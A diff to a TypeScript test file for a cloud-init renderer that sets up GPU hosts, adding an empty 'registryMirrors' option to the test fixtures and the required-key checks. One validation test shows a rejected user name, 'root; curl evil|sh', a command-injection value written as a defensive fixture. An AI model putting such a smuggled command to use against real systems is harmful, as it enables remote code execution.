@@ -19,7 +19,7 @@ const KEY2 =
     "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBHq3Jm0oKjZ2c3b1hXl5m0V8l6mQ= ci@gpu-hosts";
 
 /** What the program passes for a stack with the config's defaults (sshUser, driver branch) and the fixed log rotation. */
-const BASE: CloudInitOptions = { sshUser: "ubuntu", createUser: true, sshAuthorizedKeys: [], nvidiaDriverBranch: "570-server", dockerLog: DOCKER_LOG_ROTATION };
+const BASE: CloudInitOptions = { sshUser: "ubuntu", createUser: true, sshAuthorizedKeys: [], nvidiaDriverBranch: "570-server", dockerLog: DOCKER_LOG_ROTATION, registryMirrors: [] };
 
 /** One representative option set per golden file. */
 const CASES: Record<string, CloudInitOptions> = {
@@ -34,6 +34,7 @@ const CASES: Record<string, CloudInitOptions> = {
         nvidiaDriverBranch: "550-server-open",
         dockerLog: { maxSize: "50m", maxFile: 5 },
         hostname: "gpu-dev-aws",
+        registryMirrors: [],
     },
 };
 
@@ -108,7 +109,7 @@ describe("cloud-init renderer", () => {
 
         it("writes nothing but the setup script: the same script an operator's server gets over SSH", () => {
             assert.deepStrictEqual(config.write_files.map((f: { path: string }) => f.path), [SETUP_SCRIPT_PATH]);
-            assert.strictEqual(script, setupScript({ sshUser: "ubuntu", gpu: true, nvidiaDriverBranch: "570-server", dockerLog: DOCKER_LOG_ROTATION }));
+            assert.strictEqual(script, setupScript({ sshUser: "ubuntu", gpu: true, nvidiaDriverBranch: "570-server", dockerLog: DOCKER_LOG_ROTATION, registryMirrors: [] }));
         });
 
         it("is deterministic and does not mutate its options", () => {
@@ -262,7 +263,7 @@ describe("cloud-init renderer", () => {
         it("holds no defaults: every option but the hostname is required (the config and infra/config/fixed.ts resolve them)", () => {
             // A type error if any became optional again; the program passes each one.
             const required: Required<Omit<CloudInitOptions, "hostname">> = BASE;
-            assert.deepStrictEqual(Object.keys(required).sort(), ["createUser", "dockerLog", "nvidiaDriverBranch", "sshAuthorizedKeys", "sshUser"]);
+            assert.deepStrictEqual(Object.keys(required).sort(), ["createUser", "dockerLog", "nvidiaDriverBranch", "registryMirrors", "sshAuthorizedKeys", "sshUser"]);
             const source = fs.readFileSync(path.join(__dirname, "..", "..", "cloud-init", "render.ts"), "utf8");
             assert.doesNotMatch(source, /"570-server"|"ubuntu"|"10m"|DEFAULTS/, "no default of the config's written again");
         });
@@ -288,6 +289,7 @@ describe("cloud-init renderer", () => {
                 nvidiaDriverBranch: "latest",
                 dockerLog: { maxSize: "10 MB", maxFile: 0 },
                 hostname: "bad_host.example",
+                registryMirrors: [],
             });
             assert.deepStrictEqual(problems, [
                 'cloud-init option sshUser must be a Linux user name, e.g. "ubuntu", got "root; curl evil|sh"',
